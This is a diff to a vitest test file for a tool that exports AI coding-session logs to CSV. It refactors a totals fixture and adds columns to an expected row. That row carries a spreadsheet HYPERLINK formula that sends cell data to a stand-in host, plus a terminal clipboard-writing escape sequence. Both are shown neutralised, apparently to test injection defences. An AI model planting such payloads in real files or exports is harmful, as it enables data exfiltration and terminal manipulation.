@@ -6,6 +6,7 @@
 import { closeSync, mkdirSync, openSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { dirname, join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
+import { emptyTotals } from '../archive/totals';
 import type { ArchiveDocument } from './archive';
 import { renderArchive } from './archive';
 import { run, scratch } from './testSupport.node';
@@ -148,7 +149,7 @@ describe('archive --out', () => {
     expect((await archive(dir, '--out', name)).code).toBe(0);
     const lines = readFileSync(name.replace(/\.csv$/, '.sessions.csv'), 'utf8').split('\n');
     expect(lines[1]).toBe(
-      `.claude/projects/-a/s.jsonl,claude-code,claude-code,"'=HYPERLINK(""http://x.test/?""&A1,""open"")","'=HYPERLINK(""http://x.test/?""&A1,""open"")",false,2026-01-02T10:00:00.000Z,2026-01-02T10:00:05.000Z,${Buffer.byteLength(session(cwd, '\u001b]52;c;ZXZpbA==\u0007-model'))},2,2,1,0,1200,1200,,,40,\\u001b]52;c;ZXZpbA==\\u0007-model,,\\u001b]52;c;ZXZpbA==\\u0007-model ×1,0,false,,0,0,0,,,,`,
+      `.claude/projects/-a/s.jsonl,claude-code,claude-code,"'=HYPERLINK(""http://x.test/?""&A1,""open"")","'=HYPERLINK(""http://x.test/?""&A1,""open"")",false,2026-01-02T10:00:00.000Z,2026-01-02T10:00:05.000Z,${Buffer.byteLength(session(cwd, '\u001b]52;c;ZXZpbA==\u0007-model'))},2,2,1,0,1200,1200,,,40,\\u001b]52;c;ZXZpbA==\\u0007-model,,\\u001b]52;c;ZXZpbA==\\u0007-model ×1,0,false,,0,0,0,,,,,,0,0,0,0,0`,
     );
   }, 60_000);
 });
@@ -157,25 +158,7 @@ describe('archive on a terminal', () => {
   it('shows a line break, a tab and an escape in a file name as escapes, on the file’s own line', () => {
     const doc: ArchiveDocument = {
       sessions: [],
-      totals: {
-        sessions: 0,
-        errors: 0,
-        estimated: 0,
-        bytes: 0,
-        messages: 0,
-        calls: 0,
-        compactions: 0,
-        peakContextTokens: null,
-        inputTokensTotal: 0,
-        cacheReadTokens: 0,
-        cacheWriteTokens: 0,
-        outputTokens: 0,
-        costUsd: 0,
-        unpriced: 0,
-        callsWithoutModel: 0,
-        skippedFiles: 0,
-        skippedLinks: 0,
-      },
+      totals: emptyTotals(),
       problems: [],
     };
     doc.sessions.push({
